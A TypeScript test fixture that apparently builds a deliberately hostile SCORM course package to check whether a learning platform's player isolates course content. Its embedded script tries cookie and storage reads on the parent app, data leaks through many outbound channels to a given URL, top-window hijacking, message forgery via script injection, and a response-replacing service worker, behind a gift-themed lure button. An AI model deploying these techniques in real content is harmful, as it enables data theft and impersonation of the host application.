import { scorm12Package } from './packages';

/**
 * A package whose files are in order and whose script means ill. It plays as any other does, and has in `attack` what it would try: each answers what
 * came of it, an exception by its name. Whatever needs a press of the learner's is tried by the button that stands on top.
 */
const SCRIPT = `
(function () {
  var player = window.parent, app = player.parent;
  var tried = async function (what) { try { return await what(); } catch (error) { return error.name; } };
  var later = function (ms) { return new Promise(function (done) { setTimeout(done, ms); }); };
  var named = function (result) { return result instanceof Response ? result.type + ' ' + result.status : String(result); };
  var framed = async function (url) {
    var frame = document.body.appendChild(document.createElement('iframe'));
    var loaded = new Promise(function (done) { frame.onload = done; });
    frame.src = url;
    await Promise.race([loaded, later(1500)]);
    var seen = await tried(function () { return frame.contentWindow.document.body.innerHTML.length; });
    frame.remove();
    return seen;
  };
  var moves = {
    cookies: function () { return document.cookie; },
    toss: function (cookie) { document.cookie = cookie; return document.cookie; },
    appDocument: function () { return app.document.title; },
    appStorage: function () { return app.localStorage.length; },
    appDatabase: function () { return app.indexedDB.databases(); },
    frame: framed,
    read: async function (url, options) { return named(await fetch(url, options)); },
    text: async function (url) { return (await fetch(url)).text(); },
    storage: function () { return JSON.stringify(localStorage); },
    databases: async function () { return JSON.stringify((await indexedDB.databases()).map(function (one) { return one.name; })); },
    keep: function (key, value) { localStorage.setItem(key, value); return 'kept'; },
    /** Every way out that a page has, to an address that counts who comes. */
    tellTales: async function (url) {
      var image = new Image(); image.src = url + '?image';
      var script = document.createElement('script'); script.src = url + '?script'; document.head.append(script);
      var style = document.createElement('link'); style.rel = 'stylesheet'; style.href = url + '?style'; document.head.append(style);
      var form = document.createElement('form'); form.method = 'POST'; form.action = url + '?form'; form.target = 'nowhere'; document.body.append(form);
      var inside = document.createElement('iframe'); inside.name = 'nowhere'; document.body.append(inside);
      form.submit();
      navigator.sendBeacon(url + '?beacon', 'x');
      await framed(url + '?frame');
      await tried(function () { return fetch(url + '?fetch', { mode: 'no-cors' }); });
      await tried(function () { new EventSource(url + '?events'); });
      await tried(function () { new WebSocket(url.replace('http', 'ws') + '?socket'); });
      await tried(function () { new Worker(url + '?worker'); });
      await tried(function () { new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "?inside-worker', { mode: 'no-cors' })"], { type: 'text/javascript' }))); });
      await later(800);
      return 'told';
    },
    top: async function (url) { window.top.location.href = url; await later(300); return 'went'; },
    /** The page around the content is of its origin, so content can make it say anything. */
    speakAsPlayer: async function (message) {
      localStorage.setItem('forged', JSON.stringify(message));
      var script = player.document.createElement('script');
      script.src = location.pathname.replace(/bai-1\\/.*$/, 'bai-1/speak.js') + '?' + Math.random();
      var loaded = new Promise(function (done, fail) { script.onload = function () { done('said'); }; script.onerror = fail; });
      player.document.head.append(script);
      return loaded;
    },
    speakItself: function (message) { app.postMessage(message, '*'); return 'said'; },
    serviceWorker: async function (path, scope) { var worker = await navigator.serviceWorker.register(path, scope ? { scope: scope } : {}); return new URL(worker.scope).pathname; },
    permission: async function (name) { return (await navigator.permissions.query({ name: name })).state; },
  };
  window.attack = async function (name) { var rest = [].slice.call(arguments, 1); return tried(function () { return moves[name].apply(null, rest); }); };
  /** What the button does: a press is what browsers ask for before a window may be opened or the top one led away. */
  window.onPress = null;
  document.addEventListener('DOMContentLoaded', function () {
    var button = document.body.insertBefore(document.createElement('button'), document.body.firstChild);
    button.id = 'press';
    button.textContent = 'Nhận quà';
    var said = document.body.insertBefore(document.createElement('p'), button);
    said.id = 'came';
    button.onclick = async function () { said.textContent = ''; said.textContent = await tried(window.onPress); };
  });
}());
`;

/** Runs in the player's window. */
const SPEAK = "window.parent.postMessage(JSON.parse(localStorage.getItem('forged')), '*');";
const WORKER = "self.addEventListener('fetch', function (event) { event.respondWith(new Response('xâm nhập')); });";

export const hostileContent = (title: string): Uint8Array => scorm12Package({
  title, identifier: `xau-${title.length}`,
  moreFiles: {
    'bai-1/xau.js': SCRIPT, 'bai-1/speak.js': SPEAK, 'bai-1/worker.js': WORKER,
    'bai-1/index.html': '<!doctype html><html lang="vi"><meta charset="utf-8"><title>Quà tặng</title><script src="xau.js"></script><h1>Quà tặng</h1><script>var API = parent.API; API.LMSInitialize("");</script></html>',
  },
});
